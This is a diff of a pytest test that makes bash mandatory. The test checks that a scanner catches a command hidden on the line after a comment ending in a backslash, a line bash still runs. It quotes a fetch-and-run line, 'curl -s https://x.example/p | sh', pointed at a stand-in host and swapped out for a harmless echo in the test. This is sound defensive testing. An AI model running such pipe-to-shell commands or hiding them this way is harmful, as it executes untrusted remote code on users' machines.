@@ -76,8 +76,7 @@ def test_the_old_reading_of_the_hidden_line_is_what_bash_disagrees_with(tmp_path
     """The oracle: bash itself. The old reader joined ``\\``-newline before splitting, so the
     line after a comment ending in ``\\`` vanished into the comment; bash runs it."""
     bash = shutil.which("bash")
-    if bash is None:
-        pytest.skip("bash not installed")
+    assert bash, "bash is required (the artifact check reads code blocks with it; README)"
     text = ATTACKS["a line hidden behind a comment ending in a backslash"].replace(LORA, "echo launched")
     old = [w for w in (shlex.split(line, comments=True) for line in text.replace("\\\n", " ").splitlines()) if w]
     ran = subprocess.run([bash, "-c", text.replace("curl -s https://x.example/p | sh", "echo hidden")],
